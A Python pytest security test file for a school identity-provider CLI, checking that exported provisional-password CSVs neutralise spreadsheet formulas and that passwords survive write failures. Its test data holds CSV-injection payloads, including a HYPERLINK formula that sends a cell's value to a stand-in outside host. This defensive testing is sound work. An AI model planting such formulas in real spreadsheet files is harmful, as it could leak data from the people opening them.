"""The files of provisional passwords: safe to open, created first, never the only loss.

- ``--csv`` is opened in a spreadsheet by school staff: a name in a school's export that
  starts like a formula (``=HYPERLINK(…)``, ``+``, ``-``, ``@``) must show as text, not run.
- The files are created before the first directory write, so a bad path fails while no
  password has changed yet.
- If writing them fails after the directory writes (a full disk), the provisional passwords
  are in force and exist nowhere else: they are printed on stdout, the error on stderr,
  exit status 1. The failure is made for real: the command runs in a process whose file
  size limit (RLIMIT_FSIZE) makes the kernel refuse the write (EFBIG), as a full disk would.
"""

from __future__ import annotations

import csv
import os
import resource
import secrets
import signal
import subprocess
import sys

import pytest

from ent_idp.domain.admin.handouts import spreadsheet_text

from .conftest import ROOT
from .test_admin_cli import cli, environment, imported, read_csv  # noqa: F401 (fixtures)

pytestmark = pytest.mark.security

PROVISIONAL_LINE = r"^{login}\t[a-km-np-z2-9]{{5}}-[a-km-np-z2-9]{{5}}-[a-km-np-z2-9]{{5}}$"


def export(tmp_path, rows: list[tuple[str, ...]]):
    path = tmp_path / f"export-{secrets.token_hex(3)}.csv"
    with open(path, "w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out, delimiter=";")
        writer.writerow(("login", "first_name", "last_name", "class", "mail"))
        writer.writerows(rows)
    return path


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Cliquez")', "'=HYPERLINK("),
        ("+33 6 12 34 56 78", "'+33"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\tTab", "'\tTab"),
        ("\rRetour", "'\rRetour"),
        ("Zoé", "Zoé"),
        ("Marie-Anne", "Marie-Anne"),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_shown_as_text(value, shown):
    """OWASP's advice for CSV injection: a leading apostrophe, the rest unchanged."""
    assert spreadsheet_text(value).startswith(shown)
    assert spreadsheet_text(value).removeprefix("'") == value


def test_the_csv_of_an_import_neutralises_formulas(cli, imported, tmp_path):  # noqa: F811
    """Read back from the file: every cell of the export that starts like a formula, in
    any column, begins with an apostrophe; the others are as given."""
    tag = secrets.token_hex(3)
    logins = [f"eve.formule{tag}", f"paul.normal{tag}"]
    imported.extend(logins)
    path = export(
        tmp_path,
        [
            (logins[0], "=1+1", '=HYPERLINK("http://x.example","ici")', "@classe", "-x@ent.test"),
            (logins[1], "Paul", "+Martin", "2nde 1", f"{logins[1]}@ent.test"),
        ],
    )
    out = tmp_path / "mots-de-passe.csv"
    result = cli("import", str(path), "--csv", str(out))
    assert result.exit_code == 0, result.output
    rows = {row["login"]: row for row in read_csv(out)}
    evil, normal = rows[logins[0]], rows[logins[1]]
    assert evil["first_name"] == "'=1+1"
    assert evil["last_name"] == '\'=HYPERLINK("http://x.example","ici")'
    assert evil["class"] == "'@classe"
    assert evil["mail"] == "'-x@ent.test"
    assert normal["first_name"] == "Paul" and normal["last_name"] == "'+Martin"
    assert normal["class"] == "2nde 1" and normal["mail"] == f"{logins[1]}@ent.test"


@pytest.mark.parametrize("command", ["reset", "import"])
def test_a_bad_path_fails_before_any_directory_write(cli, accounts, imported, tmp_path, command):  # noqa: F811
    """The files are created first: a typo in a folder name costs nothing."""
    account = accounts.create("active", "Actif-Depuis-2025!")
    missing = tmp_path / "no-such-folder" / "letters.pdf"
    good_csv = tmp_path / "ok.csv"
    if command == "reset":
        args = ["reset", account["login"], "--csv", str(good_csv), "--letters", str(missing)]
    else:
        tag = secrets.token_hex(3)
        imported.append(f"nouveau{tag}")
        rows = [(f"nouveau{tag}", "Léo", "Neuf", "2nde", f"nouveau{tag}@ent.test")]
        rows.append((account["login"], "Emma", "Durand", "2nde", account["mail"]))
        path = export(tmp_path, rows)
        args = ["import", str(path), "--reset-active", "--csv", str(good_csv)]
        args += ["--letters", str(missing)]
    result = cli(*args)
    assert result.exit_code == 2, result.output
    assert f"cannot create {missing}" in result.stderr and "nothing was changed" in result.stderr
    assert result.stdout == ""
    assert not good_csv.exists(), "the file created before it is removed"
    assert accounts.binds(account["dn"], "Actif-Depuis-2025!"), "no password changed"
    assert accounts.read(account["dn"])["entidpaccountstate"] == [b"active"]
    if command == "import":
        assert not exists(accounts, imported[-1]), "no account created"


def exists(accounts, login: str) -> bool:
    conn = accounts.slapd.admin_connection()
    try:
        return bool(conn.search(accounts.slapd.account_dn(login), "(objectClass=*)", "BASE"))
    finally:
        conn.unbind()


def test_no_file_is_left_when_there_is_no_password_to_hand_out(cli, accounts, tmp_path):  # noqa: F811
    """Created first, but removed if the run hands out nothing (e.g. an unknown login)."""
    out_csv, out_pdf = tmp_path / "a.csv", tmp_path / "a.pdf"
    result = cli("reset", "personne.inconnue", "--csv", str(out_csv), "--letters", str(out_pdf))
    assert result.exit_code == 1
    assert "no new provisional password: no file written" in result.stderr
    assert not out_csv.exists() and not out_pdf.exists()


def _limit_file_size(limit: int):
    """In the child: writes past ``limit`` bytes fail with EFBIG, as on a full disk."""

    def apply() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of a kill
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return apply


def run_limited(settings, stack, limit: int, *args: str) -> subprocess.CompletedProcess:
    """``ent-idp ARGS`` in a process that cannot write files bigger than ``limit``."""
    env = {
        key: value
        for key, value in environment(
            settings,
            ADMIN_BIND_DN=stack.slapd.admin_dn,
            ADMIN_BIND_PASSWORD=stack.slapd.admin_password,
        ).items()
        if value is not None
    }
    inherited = {k: v for k, v in os.environ.items() if not k.startswith("ENT_IDP_")}
    return subprocess.run(
        [sys.executable, "-m", "ent_idp", *args],
        env={**inherited, "PYTHONDONTWRITEBYTECODE": "1", **env},
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=_limit_file_size(limit),
    )


@pytest.mark.faults
def test_import_prints_the_passwords_when_the_letters_cannot_be_written(
    settings,
    stack,
    accounts,
    imported,  # noqa: F811
    tmp_path,
):
    """The CSV fits, the PDF does not (the kernel refuses it past 1 KiB): the accounts are
    created, so their passwords go to stdout, with the error on stderr and exit status 1."""
    tag = secrets.token_hex(3)
    logins = [f"ana.disque{tag}", f"bob.plein{tag}"]
    imported.extend(logins)
    path = export(tmp_path, [(login, "A", "B", "2nde", f"{login}@ent.test") for login in logins])
    out_csv, out_pdf = tmp_path / "p.csv", tmp_path / "p.pdf"
    result = run_limited(
        settings, stack, 1024, "import", str(path), "--csv", str(out_csv), "--letters", str(out_pdf)
    )
    assert result.returncode == 1, result.stderr
    assert f"cannot write {out_pdf}" in result.stderr
    assert "the only copy" in result.stderr
    printed = dict(line.split("\t") for line in result.stdout.splitlines())
    assert sorted(printed) == sorted(logins)
    for login, password in printed.items():
        assert accounts.binds(accounts.slapd.account_dn(login), password), "in force"
    assert not out_pdf.exists(), "a half-written PDF is removed"
    assert {row["login"]: row["provisional_password"] for row in read_csv(out_csv)} == printed


@pytest.mark.faults
def test_reset_says_the_passwords_on_stdout_are_the_only_copy_when_the_csv_fails(
    settings, stack, accounts, tmp_path
):
    """reset prints each password as soon as it is in force: if the CSV then fails, the
    admin is told that this output is the only copy (and the exit status is 1)."""
    account = accounts.create("active", "Actif-Depuis-2025!")
    out_csv = tmp_path / "reset.csv"
    result = run_limited(settings, stack, 40, "reset", account["login"], "--csv", str(out_csv))
    assert result.returncode == 1, result.stderr
    assert f"cannot write {out_csv}" in result.stderr and "the only copy" in result.stderr
    [line] = result.stdout.splitlines()
    login, password = line.split("\t")
    assert login == account["login"]
    assert accounts.binds(account["dn"], password)
    assert not out_csv.exists()
